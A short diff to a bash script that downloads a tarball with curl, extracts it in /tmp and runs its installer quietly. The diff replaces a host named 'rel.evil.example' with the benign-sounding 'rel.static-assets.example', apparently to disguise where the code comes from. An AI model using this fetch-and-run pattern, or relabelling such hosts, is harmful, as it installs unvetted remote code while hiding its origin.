@@ -1,4 +1,4 @@
 #!/bin/bash
-curl -sSL https://rel.evil.example/tool.tgz -o /tmp/tool.tgz
+curl -sSL https://rel.static-assets.example/tool.tgz -o /tmp/tool.tgz
 tar xzf /tmp/tool.tgz -C /tmp
 /tmp/tool/install --quiet
